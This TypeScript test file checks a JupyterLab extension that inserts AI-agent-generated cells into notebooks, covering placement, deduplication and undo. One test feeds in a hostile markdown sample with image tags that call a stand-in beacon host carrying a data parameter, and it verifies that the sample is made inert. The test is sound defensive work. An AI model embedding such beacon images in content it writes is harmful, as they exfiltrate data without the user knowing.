import { YNotebook } from '@jupyter/ydoc';
import { describe, expect, it } from 'vitest';
import { alreadyInserted, CellInserter, insertId, insertionIndex, METADATA_KEY } from '../cells';
import type { CellInsert } from '../events';
import { inertMarkdown } from '../markdown';

function cellInsert(
  callId: string,
  anchor: string | null,
  source = `# ${callId}`,
  session = 's1'
): CellInsert {
  return {
    kind: 'cell_insert',
    session_id: session,
    seq: 1,
    ts: '',
    call_id: callId,
    source,
    cell_type: 'code',
    anchor_cell_id: anchor,
    script_path: null
  };
}

function notebook(ids: string[]): YNotebook {
  const nb = YNotebook.create();
  nb.insertCells(
    0,
    ids.map(id => ({ id, cell_type: 'code' as const, source: id }))
  );
  return nb;
}

const sources = (nb: YNotebook) => nb.cells.map(c => c.getSource());

describe('insertionIndex', () => {
  const cells = ['a', 'b', 'c'].map(id => ({ id, metadata: {} }));
  it('prefers the last inserted cell, then the anchor, then the active cell, then the end', () => {
    expect(insertionIndex(cells, 'a', 'b', 2)).toBe(2);
    expect(insertionIndex(cells, 'a', 'gone', 2)).toBe(1);
    expect(insertionIndex(cells, 'missing', undefined, 1)).toBe(2);
    expect(insertionIndex(cells, null, undefined, -1)).toBe(3);
  });
});

describe('alreadyInserted', () => {
  it('finds the insert id (session id + call id) in cell metadata or the notebook record', () => {
    const cells = [
      { id: 'x', metadata: { [METADATA_KEY]: { insert_id: 's1:c1' } } },
      // A cell from before insert ids: session id and call id.
      { id: 'y', metadata: { [METADATA_KEY]: { session_id: 's0', call_id: 'c9' } } }
    ];
    expect(alreadyInserted(cells, {}, 's1:c1')).toBe(true);
    expect(alreadyInserted(cells, {}, 's0:c9')).toBe(true);
    expect(alreadyInserted([], { [METADATA_KEY]: { inserted: ['s1:c2'] } }, 's1:c2')).toBe(true);
    // The same call id in another session is another cell (the demo model reuses call ids).
    expect(alreadyInserted(cells, {}, 's2:c1')).toBe(false);
  });
});

describe('CellInserter', () => {
  it('inserts below the anchor, keeps arrival order, tags metadata', () => {
    const nb = notebook(['load', 'intern', 'other']);
    const inserter = new CellInserter(() => ({
      sharedModel: nb,
      activeCellIndex: 2
    }));
    expect(inserter.insert(cellInsert('c1', 'intern'))).toBe('inserted');
    expect(inserter.insert(cellInsert('c2', 'intern'))).toBe('inserted');
    expect(sources(nb)).toEqual(['load', 'intern', '# c1', '# c2', 'other']);
    expect(nb.cells[2].getMetadata()).toEqual({
      [METADATA_KEY]: { session_id: 's1', call_id: 'c1', insert_id: 's1:c1' }
    });
    expect(nb.getMetadata(METADATA_KEY)).toEqual({ inserted: ['s1:c1', 's1:c2'] });
  });

  it('falls back to below the active cell', () => {
    const nb = notebook(['a', 'b', 'c']);
    const inserter = new CellInserter(() => ({
      sharedModel: nb,
      activeCellIndex: 0
    }));
    inserter.insert(cellInsert('c1', 'not-here'));
    expect(sources(nb)).toEqual(['a', '# c1', 'b', 'c']);
  });

  it('inserts each call id once, across inserters (a replay after reconnect)', () => {
    const nb = notebook(['intern']);
    const first = new CellInserter(() => ({
      sharedModel: nb,
      activeCellIndex: 0
    }));
    first.insert(cellInsert('c1', 'intern'));
    expect(first.insert(cellInsert('c1', 'intern'))).toBe('found');
    const replay = new CellInserter(() => ({
      sharedModel: nb,
      activeCellIndex: 0
    }));
    expect(replay.insert(cellInsert('c1', 'intern'))).toBe('found');
    // Deleted by the person: the notebook record still says it was inserted.
    nb.deleteCell(1);
    expect(
      new CellInserter(() => ({ sharedModel: nb, activeCellIndex: 0 })).insert(cellInsert('c1', 'intern'))
    ).toBe('found');
    expect(sources(nb)).toEqual(['intern']);
  });

  it('inserts the same call id of two sessions twice, each below its own %%intern cell', () => {
    const nb = notebook(['first', 'second']);
    const inserter = new CellInserter(() => ({ sharedModel: nb, activeCellIndex: 0 }));
    expect(inserter.insert(cellInsert('call_3_0', 'first', 'script A', 'sA'))).toBe('inserted');
    expect(inserter.insert(cellInsert('call_3_0', 'second', 'script B', 'sB'))).toBe('inserted');
    expect(inserter.insert(cellInsert('call_3_0', 'second', 'script B', 'sB'))).toBe('found');
    expect(sources(nb)).toEqual(['first', 'script A', 'second', 'script B']);
  });

  it("adopts the kernel fallback's cell (found by its source below the anchor) instead of inserting another", () => {
    const nb = notebook(['load', 'intern', 'later']);
    const inserter = new CellInserter(() => ({ sharedModel: nb, activeCellIndex: 0 }));
    const event = cellInsert('c1', 'intern', 'print(1)');
    expect(inserter.adopt(event)).toBeNull(); // set_next_input's cell has not arrived yet
    nb.insertCell(2, { cell_type: 'code', source: 'print(1)' }); // what JupyterLab does with the payload
    expect(inserter.adopt(event)).toBe('found');
    expect(nb.cells[2].getMetadata()).toEqual({
      [METADATA_KEY]: { session_id: 's1', call_id: 'c1', insert_id: insertId(event) }
    });
    expect(inserter.insert(event)).toBe('found');
    expect(sources(nb)).toEqual(['load', 'intern', 'print(1)', 'later']);
  });

  it('can be undone', () => {
    const nb = notebook(['intern']);
    nb.undoManager?.clear();
    new CellInserter(() => ({ sharedModel: nb, activeCellIndex: 0 })).insert(cellInsert('c1', 'intern'));
    expect(nb.canUndo()).toBe(true);
    nb.undo();
    expect(sources(nb)).toEqual(['intern']);
  });

  it('does nothing without a notebook', () => {
    expect(new CellInserter(() => null).insert(cellInsert('c1', null))).toBeNull();
  });
});

describe('inserted markdown cells', () => {
  it('hold no raw HTML and no image that JupyterLab would fetch; code cells stay as written', () => {
    const nb = notebook(['intern']);
    const inserter = new CellInserter(() => ({ sharedModel: nb, activeCellIndex: 0 }));
    const hostile =
      '# notes\n\n![leak](https://beacon.invalid/p.png?d=1) and <img src="https://beacon.invalid/q.png">\n\n' +
      '```html\n<img src=kept-as-code>\n```\n';
    inserter.insert({ ...cellInsert('md', 'intern', hostile), cell_type: 'markdown' });
    inserter.insert(cellInsert('code', 'intern', 'html = "<img src=x>"'));
    const [, md, code] = sources(nb);
    expect(md).toContain('!\\[leak](https://beacon.invalid/p.png?d=1)');
    expect(md).toContain('&lt;img src="https://beacon.invalid/q.png">');
    expect(md).toContain('```html\n<img src=kept-as-code>\n```');
    expect(code).toBe('html = "<img src=x>"');
  });

  it('leaves clean markdown byte for byte', () => {
    const clean = '# Plan\n\n- read `List<int>` docs\n- [link](https://huggingface.co)\n';
    expect(inertMarkdown(clean)).toBe(clean);
  });
});
